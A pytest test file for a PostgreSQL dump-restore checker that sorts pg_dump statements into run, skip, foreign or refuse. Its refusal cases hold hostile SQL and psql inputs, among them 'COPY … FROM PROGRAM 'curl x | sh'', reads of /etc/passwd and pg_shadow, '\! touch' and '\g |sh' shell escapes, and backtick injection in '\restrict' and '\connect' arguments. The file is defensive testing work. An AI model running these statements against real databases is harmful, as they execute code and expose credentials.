"""One statement at a time: what it is about, and whether a restore may run it."""

from __future__ import annotations

import pytest

from lastgood.dump.lexer.tokens import MetaCommand, Statement
from lastgood.dump.names import Relation, parse, quoted
from lastgood.dump.rulings import rule
from lastgood.dump.search_path import SearchPath, schemas_of
from lastgood.dump.statements import (
    ColumnDefinition,
    Command,
    CopyTarget,
    Extension,
    Kind,
    LargeObjectCall,
    PsqlCommand,
    SequencePosition,
    Setting,
    TableDefinition,
    Verdict,
    understand_psql,
)


def ruled(text: str) -> Command:
    return rule(Statement(text.encode(), 0, 1))


@pytest.mark.parametrize(
    ("text", "kind", "created"),
    [
        ("CREATE SCHEMA s1", Kind.SCHEMA, ["schema s1"]),
        ("CREATE EXTENSION IF NOT EXISTS pg_trgm WITH SCHEMA public", Kind.EXTENSION, ["extension pg_trgm"]),
        ("CREATE TYPE s1.mood AS ENUM ('a', 'b')", Kind.TYPE, ["type s1.mood"]),
        ("CREATE TYPE s1.shell", Kind.TYPE, ["type s1.shell"]),
        ("CREATE TYPE s1.span AS RANGE (subtype = integer)", Kind.TYPE, ["type s1.span"]),
        (
            "CREATE DOMAIN s1.pos AS integer CONSTRAINT is_pos CHECK (VALUE > 0)",
            Kind.DOMAIN,
            ["domain s1.pos", "domain constraint is_pos on s1.pos"],
        ),
        (
            'CREATE TABLE s1."Odd" (id integer, CONSTRAINT positive CHECK ((id > 0)))',
            Kind.TABLE,
            ['table s1."Odd"', 'check constraint positive on s1."Odd"'],
        ),
        ("CREATE FOREIGN TABLE s1.ft (id integer) SERVER far", Kind.FOREIGN_TABLE, ["foreign table s1.ft"]),
        ("CREATE VIEW s1.v AS SELECT 1", Kind.VIEW, ["view s1.v"]),
        ("CREATE MATERIALIZED VIEW s1.m AS SELECT 1 WITH NO DATA", Kind.MATERIALIZED_VIEW, ["materialized view s1.m"]),
        ("CREATE SEQUENCE s1.q AS integer START WITH 1", Kind.SEQUENCE, ["sequence s1.q"]),
        (
            "CREATE FUNCTION s1.f(a integer, b timestamp with time zone[], OUT c text) LANGUAGE sql AS 'SELECT 1'",
            Kind.FUNCTION,
            ["function s1.f(integer, timestamp with time zone[])"],
        ),
        ("CREATE PROCEDURE s1.p() LANGUAGE sql BEGIN ATOMIC END", Kind.PROCEDURE, ["procedure s1.p()"]),
        (
            "CREATE AGGREGATE s1.agg(integer) (SFUNC = int4pl, STYPE = integer)",
            Kind.AGGREGATE,
            ["aggregate s1.agg(integer)"],
        ),
        (
            "CREATE OPERATOR s1.@+@ (FUNCTION = int4pl, LEFTARG = integer, RIGHTARG = integer)",
            Kind.OPERATOR,
            ["operator s1.@+@(integer,integer)"],
        ),
        ("CREATE CAST (s1.mood AS integer) WITH INOUT AS ASSIGNMENT", Kind.CAST, ["cast (s1.mood AS integer)"]),
        ("CREATE COLLATION s1.de (provider = libc, locale = 'C')", Kind.COLLATION, ["collation s1.de"]),
        ("CREATE UNIQUE INDEX i ON ONLY s1.t USING btree (id)", Kind.INDEX, ["index s1.i"]),
        (
            "CREATE TRIGGER t BEFORE INSERT ON s1.f1 FOR EACH ROW EXECUTE FUNCTION s1.trg()",
            Kind.TRIGGER,
            ["trigger t on s1.f1"],
        ),
        (
            "CREATE EVENT TRIGGER et ON ddl_command_end EXECUTE FUNCTION s1.et()",
            Kind.EVENT_TRIGGER,
            ["event trigger et"],
        ),
        ("CREATE RULE r AS ON INSERT TO s1.f2 DO ALSO (SELECT 1; SELECT 2)", Kind.RULE, ["rule r on s1.f2"]),
        ("CREATE POLICY p ON s1.f1 TO app USING ((id > 0))", Kind.POLICY, ["policy p on s1.f1"]),
        ("CREATE PUBLICATION p WITH (publish = 'insert')", Kind.PUBLICATION, ["publication p"]),
        ("CREATE STATISTICS s1.st ON id, t FROM s1.par", Kind.STATISTICS, ["statistics object s1.st"]),
        (
            "CREATE USER MAPPING FOR app SERVER far OPTIONS (password 'x')",
            Kind.USER_MAPPING,
            ["user mapping app on server far"],
        ),
        (
            "ALTER TABLE ONLY s1.t ADD CONSTRAINT t_pkey PRIMARY KEY (id)",
            Kind.PRIMARY_KEY,
            ["primary key t_pkey on s1.t"],
        ),
        (
            "ALTER TABLE ONLY s1.t ADD CONSTRAINT fk FOREIGN KEY (o) REFERENCES s1.u(id)",
            Kind.FOREIGN_KEY,
            ["foreign key fk on s1.t"],
        ),
        ("ALTER TABLE s1.t ADD CONSTRAINT c CHECK ((id > 0)) NOT VALID", Kind.CHECK, ["check constraint c on s1.t"]),
        ("ALTER TABLE s1.t ALTER COLUMN id ADD GENERATED ALWAYS AS IDENTITY (SEQUENCE NAME s1.q)", Kind.IDENTITY, []),
        ("ALTER TABLE ONLY s1.t ALTER COLUMN id SET DEFAULT nextval('s1.q'::regclass)", Kind.DEFAULT, []),
        ("ALTER TABLE ONLY s1.p ATTACH PARTITION s1.p1 DEFAULT", Kind.PARTITION, []),
        ("ALTER INDEX s1.i ATTACH PARTITION s1.j", Kind.PARTITION, []),
        ("ALTER TABLE s1.t ENABLE ROW LEVEL SECURITY", Kind.ROW_SECURITY, []),
        ("ALTER TABLE s1.t DISABLE TRIGGER t", Kind.TABLE_PROPERTY, []),
        ("ALTER TABLE ONLY s1.t ALTER COLUMN t SET STATISTICS 500", Kind.TABLE_PROPERTY, []),
        ("ALTER TABLE ONLY s1.t REPLICA IDENTITY FULL", Kind.TABLE_PROPERTY, []),
        ("ALTER TABLE s1.t CLUSTER ON t_pkey", Kind.TABLE_PROPERTY, []),
        ("ALTER TABLE s1.t OWNER TO app", Kind.OWNER, []),
        ("ALTER SCHEMA public OWNER TO app", Kind.OWNER, []),
        ("ALTER SEQUENCE s1.q OWNED BY s1.t.id", Kind.TABLE_PROPERTY, []),
        ("ALTER PUBLICATION p ADD TABLE ONLY s1.t", Kind.PUBLICATION, []),
        ("ALTER TEXT SEARCH CONFIGURATION s1.c ADD MAPPING FOR word WITH simple", Kind.TABLE_PROPERTY, []),
        ("ALTER DEFAULT PRIVILEGES FOR ROLE a IN SCHEMA s1 GRANT SELECT ON TABLES TO b", Kind.DEFAULT_PRIVILEGES, []),
        ("GRANT SELECT(id) ON TABLE s1.t TO app", Kind.GRANT, []),
        ("REVOKE ALL ON FUNCTION s1.f(integer) FROM PUBLIC", Kind.GRANT, []),
        ("COMMENT ON TABLE s1.t IS 'it''s; fine'", Kind.COMMENT, []),
        ("SECURITY LABEL FOR x ON TABLE s1.t IS 'y'", Kind.SECURITY_LABEL, []),
        ("REFRESH MATERIALIZED VIEW s1.m", Kind.REFRESH, []),
        ("BEGIN", Kind.TRANSACTION, []),
        # What older versions write.
        ("CREATE OR REPLACE PROCEDURAL LANGUAGE plx HANDLER h", Kind.LANGUAGE, ["language plx"]),
        ("CREATE OR REPLACE PROCEDURAL LANGUAGE plx", Kind.EXTENSION, ["extension plx"]),
        ("CREATE PROCEDURAL LANGUAGE plpgsql", Kind.LANGUAGE, []),
        ("CREATE TRUSTED PROCEDURAL LANGUAGE plpgsql HANDLER h VALIDATOR v", Kind.LANGUAGE, []),
        (
            "CREATE TRIGGER t BEFORE INSERT ON s.t FOR EACH ROW EXECUTE PROCEDURE f()",
            Kind.TRIGGER,
            ["trigger t on s.t"],
        ),
        ("CREATE TABLE s.p1 PARTITION OF s.p FOR VALUES FROM (1) TO (2)", Kind.TABLE, ["table s.p1"]),
        # What version 18 writes.
        ("ALTER TABLE s.t ADD CONSTRAINT n NOT NULL a NOT VALID", Kind.NOT_NULL, []),
        ("CREATE TABLE s.v (a integer, b integer GENERATED ALWAYS AS ((a + 1)))", Kind.TABLE, ["table s.v"]),
        ("COMMIT", Kind.TRANSACTION, []),
        ("SET SESSION AUTHORIZATION 'o1'", Kind.SESSION_AUTHORIZATION, []),
        ("RESET SESSION AUTHORIZATION", Kind.SESSION_AUTHORIZATION, []),
        ("SELECT * FROM pg_catalog.pg_restore_relation_stats('version', '180006'::integer)", Kind.STATISTICS_CALL, []),
        ("SELECT pg_catalog.pg_restore_attribute_stats('x', '{1}'::real[])", Kind.STATISTICS_CALL, []),
        ("INSERT INTO s1.t VALUES (1, ARRAY[1,2], ROW(1,'x'), -5, DEFAULT, 'x'::text)", Kind.INSERT, []),
    ],
)
def test_what_pg_dump_writes_is_run(text: str, kind: Kind, created: list[str]) -> None:
    command = ruled(text)
    assert (command.kind, command.verdict, command.reason) == (kind, Verdict.RUN, "")
    assert [f"{one.kind} {one.identity}" for one in command.creates] == created


@pytest.mark.parametrize(
    ("text", "kind", "reason"),
    [
        (text, kind, reason)
        for kind, reason, texts in [
            (
                Kind.DATABASE,
                "names a database; properties of the database itself are carried over from the live one",
                [
                    "CREATE DATABASE src WITH TEMPLATE = template0",
                    "DROP DATABASE IF EXISTS src",
                    "ALTER DATABASE src OWNER TO postgres",
                    "ALTER DATABASE src SET work_mem TO '9MB'",
                    "ALTER DATABASE src CONNECTION LIMIT = 3",
                    "COMMENT ON DATABASE src IS 'x'",
                    "SECURITY LABEL FOR x ON DATABASE src IS 'y'",
                    "GRANT CONNECT ON DATABASE src TO app",
                    "REVOKE CONNECT,TEMPORARY ON DATABASE src FROM PUBLIC",
                    "UPDATE pg_catalog.pg_database SET datistemplate = false WHERE datname = 'template1'",
                ],
            ),
            (
                Kind.ROLE,
                "names a role of the whole server, which a rollback never changes",
                [
                    "CREATE ROLE app",
                    "ALTER ROLE postgres WITH SUPERUSER PASSWORD 'secret'",
                    "ALTER ROLE app IN DATABASE src SET statement_timeout TO '5s'",
                    "DROP ROLE IF EXISTS app",
                    "GRANT a TO b",
                    "COMMENT ON ROLE app IS 'x'",
                ],
            ),
            (
                Kind.TABLESPACE,
                "names a tablespace of the whole server, which a rollback never changes",
                ["CREATE TABLESPACE t LOCATION '/x'", "DROP TABLESPACE t", "GRANT CREATE ON TABLESPACE t TO app"],
            ),
            (
                Kind.SUBSCRIPTION,
                "names a subscription, which in a second database would take over the live one's replication slot",
                [
                    "CREATE SUBSCRIPTION s CONNECTION 'password=x' PUBLICATION p WITH (slot_name = 's')",
                    "ALTER SUBSCRIPTION s OWNER TO postgres",
                    "COMMENT ON SUBSCRIPTION s IS 'x'",
                    "DROP SUBSCRIPTION s",
                ],
            ),
            (
                Kind.DROP,
                "drops an object, but a new database has nothing to drop",
                [
                    "DROP TABLE IF EXISTS s1.t",
                    "DROP SCHEMA s1",
                    "DROP CAST IF EXISTS (s1.mood AS integer)",
                    "DROP USER MAPPING IF EXISTS FOR app SERVER far",
                    "ALTER TABLE IF EXISTS ONLY s1.t DROP CONSTRAINT IF EXISTS t_pkey",
                    "ALTER TABLE IF EXISTS s1.t ALTER COLUMN id DROP DEFAULT",
                    "ALTER DOMAIN s1.d DROP CONSTRAINT c",
                    "SELECT pg_catalog.lo_unlink('4242')",
                    "SELECT pg_catalog.lo_unlink(oid) FROM pg_catalog.pg_largeobject_metadata WHERE oid = '4243'",
                ],
            ),
            (Kind.SETTING, "resets the session, which ends anyway", ["RESET ALL"]),
            (
                Kind.SETTING,
                "limits the duration of commands, which a restore must not do",
                ["SET statement_timeout = 1", "SET lock_timeout = '5s'"],
            ),
            (
                Kind.SETTING,
                "makes the session read-only, which would prevent the restore",
                ["SET default_transaction_read_only = on"],
            ),
        ]
        for text in texts
    ],
)
def test_what_is_left_out(text: str, kind: Kind, reason: str) -> None:
    command = ruled(text)
    assert (command.kind, command.verdict, command.reason) == (kind, Verdict.SKIP, reason)


@pytest.mark.parametrize(
    ("text", "reason"),
    [
        ("COPY t FROM PROGRAM 'curl x | sh'", 'has a "COPY … PROGRAM", which would run a program on the server'),
        ("COPY t TO PROGRAM 'sh'", 'has a "COPY … PROGRAM", which would run a program on the server'),
        ("COPY t TO '/tmp/x'", 'has a "COPY … TO", which would write outside the database'),
        ("COPY (SELECT 1) TO STDOUT", 'has a "COPY … TO", which would write outside the database'),
        ("COPY t FROM '/etc/passwd'", 'has a "COPY" from a file, which would read the server\'s own files'),
        ("ALTER SYSTEM SET archive_command = 'x'", 'has "ALTER SYSTEM", which pg_dump never writes'),
        ("DO $$ BEGIN DELETE FROM t; END $$", 'has "DO", which pg_dump never writes'),
        ("CALL p('secret')", 'has "CALL p", which pg_dump never writes'),
        ("LOAD 'x'", 'has "LOAD", which pg_dump never writes'),
        ("ROLLBACK", 'has "ROLLBACK", which pg_dump never writes'),
        ("PREPARE TRANSACTION 'x'", 'has "PREPARE TRANSACTION", which pg_dump never writes'),
        ("ALTER EXTENSION x UPDATE", 'has "ALTER EXTENSION", which pg_dump never writes'),
        ("SELECT pg_catalog.pg_read_file('/etc/passwd')", 'has a "SELECT", which pg_dump never writes'),
        ("SELECT pg_catalog.set_config('log_directory', '/', false)", 'has a "SELECT", which pg_dump never writes'),
        ("SELECT pg_catalog.lo_import('/etc/passwd')", 'has a "SELECT", which pg_dump never writes'),
        (
            "SELECT pg_catalog.lo_unlink(oid) FROM pg_catalog.pg_largeobject_metadata WHERE oid > '0'",
            'has a "SELECT", which pg_dump never writes',
        ),
        ("SELECT pg_catalog.binary_upgrade_set_next_pg_type_oid('1')", 'has a "SELECT", which pg_dump never writes'),
        (
            "INSERT INTO t VALUES (pg_read_file('x'))",
            'has an "INSERT" with computed values, which pg_dump never writes',
        ),
        ("SET session_preload_libraries = 'x'", 'sets "session_preload_libraries", which pg_dump never does'),
        ("SELEC 1", "has text that is not SQL"),
        ("pg_dump: dumping contents", "has text that is not SQL"),
    ],
)
def test_everything_else_is_refused_without_quoting_it(text: str, reason: str) -> None:
    command = ruled(text)
    assert (command.verdict, command.reason) == (Verdict.REFUSE, reason)


@pytest.mark.parametrize(
    ("text", "reason"),
    [
        ("DELETE FROM t", 'has "DELETE FROM", which pg_dump never writes'),
        ("UPDATE t SET a = 1", 'has "UPDATE t", which pg_dump never writes'),
        ("TRUNCATE t", 'has "TRUNCATE t", which pg_dump never writes'),
        ("CREATE TABLE x AS SELECT 1", 'has "CREATE TABLE", which pg_dump never writes'),
        ("CREATE TEMPORARY TABLE x (a integer)", "has a temporary table, which pg_dump never writes"),
        ("CREATE TABLE x (LIKE y)", 'has a "LIKE" in a "CREATE TABLE", which pg_dump never writes'),
        ("ALTER TABLE t ADD COLUMN c integer", 'has "ALTER TABLE", which pg_dump never writes'),
        ("ALTER TABLE t RENAME TO u", 'has "ALTER TABLE", which pg_dump never writes'),
        ("ALTER TABLE t ENABLE TRIGGER x, DROP COLUMN y", 'has "ALTER TABLE", which pg_dump never writes'),
        ("SELECT 1", 'has a "SELECT", which pg_dump never writes'),
        ("SELECT pg_catalog.setval('s', (SELECT 1), true)", 'has a "SELECT", which pg_dump never writes'),
        ("SELECT setval('s', 1, true)", 'has a "SELECT", which pg_dump never writes'),
        ("INSERT INTO t SELECT 1", 'has an "INSERT" from a query, which pg_dump never writes'),
        ("INSERT INTO t VALUES (1) RETURNING a", 'has an "INSERT" from a query, which pg_dump never writes'),
        ("SET default_with_oids = true", "creates tables with OIDs, which no supported server has"),
    ],
)
def test_what_only_other_programs_write_is_foreign(text: str, reason: str) -> None:
    command = ruled(text)
    assert (command.verdict, command.reason) == (Verdict.FOREIGN, reason)


@pytest.mark.parametrize(
    ("text", "sent"),
    [
        ("SELECT setval('s', 1, true)", "SELECT pg_catalog.setval('s', 1, true)"),
        (
            "SELECT setval('t_id_seq', COALESCE((SELECT MAX(id) + 1 FROM \"tä\"), 1), false)",
            "SELECT pg_catalog.setval('t_id_seq', COALESCE((SELECT pg_catalog.MAX(id) + 1 FROM \"tä\"), 1), false)",
        ),
        (
            "INSERT INTO t VALUES ('ä', NOW(), 'a' || chr(10))",
            "INSERT INTO t VALUES ('ä', pg_catalog.NOW(), 'a' || pg_catalog.chr(10))",
        ),
        ("UPDATE t SET a = lower(b)", "UPDATE t SET a = pg_catalog.lower(b)"),
    ],
)
def test_functions_that_other_programs_call_are_the_servers_own(text: str, sent: str) -> None:
    command = ruled(text)
    assert (command.verdict, command.statement.text.decode()) == (Verdict.FOREIGN, sent)


@pytest.mark.parametrize(
    "text",
    [
        "UPDATE pg_class SET relname = 'x'",
        "UPDATE pg_catalog.pg_class SET relname = 'x'",
        "DELETE FROM t WHERE a IN (SELECT oid FROM pg_authid)",
        "TRUNCATE pg_catalog.pg_class",
        "INSERT INTO t SELECT passwd FROM pg_shadow",
        "INSERT INTO t SELECT * FROM pg_ls_dir('/')",
        "INSERT INTO t VALUES (s.f())",
        "INSERT INTO t VALUES (f())",
        "INSERT INTO t VALUES (1 OPERATOR(s.+) 2)",
        "INSERT INTO t VALUES (1 @+@ 2)",
        "CREATE TABLE x AS SELECT * FROM pg_authid",
        "SELECT 1 INTO x",
        "SELECT pg_sleep(9), setval('s', 1)",
        "WITH a AS (DELETE FROM pg_class RETURNING 1) SELECT count(*) FROM a",
        "ALTER TABLE pg_catalog.pg_class RENAME TO x",
        "ALTER TABLE t SET SCHEMA pg_catalog",
    ],
)
def test_what_reaches_beyond_its_rows_is_never_foreign_only(text: str) -> None:
    assert ruled(text).verdict is Verdict.REFUSE


def test_a_setting_by_a_function_is_a_setting() -> None:
    command = ruled("SELECT pg_catalog.set_config('search_path', 'a, \"B\"', true)")
    assert (command.kind, command.detail) == (Kind.SETTING, Setting("search_path", 'a, "B"', local=True))
    command = ruled("SELECT pg_catalog.set_config('check_function_bodies', 'off', false)")
    assert (command.kind, command.detail) == (Kind.SETTING, Setting("check_function_bodies", "off"))
    command = ruled('SET LOCAL search_path = "A b", c')
    assert (command.kind, command.detail) == (Kind.SETTING, Setting("search_path", '"A b", c', local=True))


def test_an_existing_relation_is_in_the_first_schema_of_the_path_that_has_it() -> None:
    path = SearchPath(("a", "b"), {Relation("b", "t")})
    assert rule(Statement(b"COMMENT ON TABLE t IS 'x'", 0, 1), path=path).verdict is Verdict.RUN
    assert rule(Statement(b"ALTER TABLE t OWNER TO x", 0, 1), path=path).relations == (Relation("b", "t"),)
    assert rule(Statement(b"CREATE INDEX i ON t (a)", 0, 1), path=path).relations == (Relation("b", "t"),)
    assert rule(Statement(b"CREATE TABLE t (a integer)", 0, 1), path=path).relations == (Relation("a", "t"),)
    assert rule(Statement(b"ALTER TABLE u OWNER TO x", 0, 1), path=path).relations == (Relation("a", "u"),)


@pytest.mark.parametrize(
    ("value", "schemas"),
    [
        (None, ("public",)),
        ("", ()),
        ('"$user", public', ("public",)),
        ("$user,public", ("public",)),
        ('Foo, "B""ar" ,pg_catalog', ("foo", 'B"ar')),
        ('"a, b", c', ("a, b", "c")),
    ],
)
def test_a_search_path_is_read_as_the_server_reads_it(value: str | None, schemas: tuple[str, ...]) -> None:
    assert schemas_of(value) == schemas


@pytest.mark.parametrize(
    ("text", "states"),
    [
        ("SET transaction_timeout = 0", {"42704", "22023", "42501"}),
        ("SET statement_timeout = 0", {"42704", "22023", "42501"}),
        ("SET default_with_oids = false", {"42704", "22023", "42501"}),
        ("SET row_security = off", {"42704", "22023", "42501"}),
        ("SET client_encoding = 'UTF8'", set()),
        ("SET standard_conforming_strings = on", set()),
        ("SET default_tablespace = ''", set()),
        ("CREATE SCHEMA public", {"42P06"}),
        ("CREATE SCHEMA other", set()),
        ("COMMENT ON EXTENSION x IS 'y'", {"42501", "42704"}),
        ("SECURITY LABEL FOR x ON TABLE t IS 'y'", {"22023", "42704", "42501"}),
        ("SELECT * FROM pg_catalog.pg_restore_relation_stats('version', '1'::integer)", {"42883", "22023", "42501"}),
        ("CREATE TABLE t (a integer)", set()),
        ("GRANT SELECT ON TABLE t TO app", set()),
    ],
)
def test_errors_that_a_restore_passes_over(text: str, states: set[str]) -> None:
    assert ruled(text).optional_sqlstates == states


def test_expressions_that_are_nested_deep() -> None:
    chain = " || ".join(["'x'"] * 3000)
    assert ruled(f"CREATE VIEW s.v AS SELECT {chain} AS a").verdict is Verdict.RUN
    assert ruled("CREATE VIEW s.v AS SELECT " + "(" * 50_000 + "1" + ")" * 50_000).verdict is Verdict.REFUSE


def test_details() -> None:
    assert ruled("SELECT pg_catalog.set_config('search_path', '', false)").detail == Setting("search_path", "")
    assert ruled("SET search_path = x, pg_catalog").detail == Setting("search_path", "x, pg_catalog")
    assert ruled("""SELECT pg_catalog.setval('s1."we""ird"', 5, true)""").detail == SequencePosition(
        Relation("s1", 'we"ird'), 5, True
    )
    assert ruled("SELECT pg_catalog.setval('s1.q', -7, false)").detail == SequencePosition(
        Relation("s1", "q"), -7, False
    )
    assert ruled("SELECT pg_catalog.lo_create('4242')").detail == LargeObjectCall("lo_create", 4242)
    assert ruled("SELECT pg_catalog.lo_open('4242', 131072)").detail == LargeObjectCall("lo_open", 4242)
    for odd in (r"SELECT pg_catalog.lowrite(0, '\x00f')", r"SELECT pg_catalog.lowrite(0,'\x00F')"):
        assert ruled(odd).verdict is Verdict.REFUSE
    assert ruled("SELECT pg_catalog.lowrite(0, '\\x00ff')").detail == LargeObjectCall("lowrite", None, b"\x00\xff")
    assert ruled("SELECT pg_catalog.lo_close(0)").detail == LargeObjectCall("lo_close")
    assert ruled("CREATE EXTENSION x WITH SCHEMA s VERSION '1.2'").detail == Extension("x", "s", "1.2")
    assert ruled('COPY s."T" (a, "B") FROM stdin').detail == CopyTarget(Relation("s", "T"), ("a", "B"))
    assert ruled("COPY s.zero  FROM stdin").detail == CopyTarget(Relation("s", "zero"), None)


def test_a_position_beyond_32_bits() -> None:
    detail = ruled("SELECT pg_catalog.setval('s.q', 9223372036854775807, true)").detail
    assert detail == SequencePosition(Relation("s", "q"), 9223372036854775807, True)


def test_a_tables_definition() -> None:
    command = ruled(
        """CREATE TABLE s.t (
             id bigint NOT NULL, "When" timestamp(3) with time zone, c character varying(5)[], m s.mood,
             g integer GENERATED ALWAYS AS ((id + 1)) STORED
           ) INHERITS (s.par) USING heap"""
    )
    assert command.detail == TableDefinition(
        Relation("s", "t"),
        (
            ColumnDefinition("id", "bigint"),
            ColumnDefinition("When", "timestamp with time zone"),
            ColumnDefinition("c", "character varying[]"),
            ColumnDefinition("m", "s.mood"),
            ColumnDefinition("g", "integer", generated=True),
        ),
        inherits=(Relation("s", "par"),),
        access_method="heap",
    )
    assert command.relations == (Relation("s", "t"), Relation("s", "par"))


def test_relations_name_everything_that_is_locked() -> None:
    command = ruled("ALTER TABLE ONLY s.a ADD CONSTRAINT fk FOREIGN KEY (o) REFERENCES s.b(id)")
    assert command.relations == (Relation("s", "a"), Relation("s", "b"))


def test_unqualified_names_belong_to_the_search_paths_first_schema() -> None:
    command = rule(Statement(b"CREATE TABLE t (a integer)", 0, 1), path=SearchPath(("crm", "b")))
    assert command.relations == (Relation("crm", "t"),)


def test_roles_that_the_server_must_have() -> None:
    assert ruled("GRANT SELECT ON TABLE t TO app, PUBLIC").roles == ("app",)
    assert ruled("ALTER TABLE t OWNER TO boss").roles == ("boss",)
    assert ruled("CREATE POLICY p ON t TO anon USING (true)").roles == ("anon",)
    assert ruled("CREATE SCHEMA s AUTHORIZATION boss").roles == ("boss",)
    assert ruled("SET SESSION AUTHORIZATION 'o1'").roles == ("o1",)
    assert ruled("ALTER DEFAULT PRIVILEGES FOR ROLE a GRANT SELECT ON TABLES TO b").roles == ("a", "b")


def test_a_view_made_to_break_a_circle_is_recognised() -> None:
    assert ruled('CREATE OR REPLACE VIEW v AS SELECT NULL::integer AS a, NULL::text COLLATE "C" AS b').dummy
    assert not ruled("CREATE OR REPLACE VIEW v AS SELECT NULL::integer AS a, 1 AS b").dummy
    assert not ruled("CREATE VIEW v AS SELECT NULL::integer AS a FROM t").dummy


def psql(text: str) -> Command:
    return understand_psql(MetaCommand(text.encode(), 0, 7))


@pytest.mark.parametrize(
    ("text", "detail"),
    [
        (r"\restrict aB3", PsqlCommand(r"\restrict", "aB3")),
        (r"\unrestrict " + "a" * 63, PsqlCommand(r"\unrestrict", "a" * 63)),
        (r"\connect src", PsqlCommand(r"\connect", "src")),
        (r'\connect "My Db"', PsqlCommand(r"\connect", "My Db")),
        (r'\connect "My Db";', PsqlCommand(r"\connect", "My Db")),
        (r"\c shop;", PsqlCommand(r"\connect", "shop")),
        (r"""\connect -reuse-previous=on "dbname='we irddb'" """, PsqlCommand(r"\connect", "we irddb")),
        (r"""\connect -reuse-previous=on "dbname='it\'s ""x"" \\'" """, PsqlCommand(r"\connect", 'it\'s "x" \\')),
        (r"\encoding SQL_ASCII", PsqlCommand(r"\encoding", "SQL_ASCII")),
    ],
)
def test_psql_commands_without_effect(text: str, detail: PsqlCommand) -> None:
    command = psql(text)
    assert (command.verdict, command.detail) == (Verdict.SKIP, detail)


@pytest.mark.parametrize(
    ("text", "detail"),
    [
        (r"\connect - boss", PsqlCommand(r"\connect", "")),
        (r"\connect shop boss localhost 5432", PsqlCommand(r"\connect", "shop")),
        (r"\echo hello", PsqlCommand(r"\echo", "hello")),
        (r"\if :{?use_roles}", PsqlCommand(r"\if", ":{?use_roles}")),
        (r"\set ON_ERROR_STOP on", PsqlCommand(r"\set", "ON_ERROR_STOP on")),
    ],
)
def test_psql_commands_that_only_other_programs_write(text: str, detail: PsqlCommand) -> None:
    command = psql(text)
    assert (command.verdict, command.detail) == (Verdict.FOREIGN, detail)


@pytest.mark.parametrize(
    ("text", "reason"),
    [
        (r"\! touch /tmp/p", r'has the psql command "\!", which would run on the operator' + "'s machine"),
        (r"\!touch /tmp/p", r'has the psql command "\!", which would run on the operator' + "'s machine"),
        (r"\copy t from program 'x'", r'has the psql command "\copy", which would run on the operator' + "'s machine"),
        (r"\i /etc/passwd", r'has the psql command "\i", which would run on the operator' + "'s machine"),
        (r"\g |sh", r'has the psql command "\g", which would run on the operator' + "'s machine"),
        ("\\restrict `touch /tmp/p`", r'has a "\restrict" with an invalid key, which is an attack on psql'),
        (r"\unrestrict", r'has a "\unrestrict" with an invalid key, which is an attack on psql'),
        (r"\restrict " + "a" * 64, r'has a "\restrict" with an invalid key, which is an attack on psql'),
        ("\\connect `touch /tmp/p`", r'has a "\connect" that cannot be parsed'),
        ("\\connect src `x`", r'has a "\connect" that cannot be parsed'),
    ],
)
def test_psql_commands_that_are_refused(text: str, reason: str) -> None:
    command = psql(text)
    assert (command.verdict, command.reason) == (Verdict.REFUSE, reason)


def test_names() -> None:
    assert [quoted(name) for name in ("plain", "Upper", "with space", "select", "int", 'a"b', "é", "a$b")] == [
        "plain", '"Upper"', '"with space"', '"select"', '"int"', '"a""b"', '"é"', '"a$b"',
    ]  # fmt: skip
    assert parse('s1."we""ird\nname"', "x") == Relation("s1", 'we"ird\nname')
    assert parse("Plain", "x") == Relation("x", "plain")
    assert parse('s1."broken', "x") is None
    assert parse("a.b.c", "x") is None
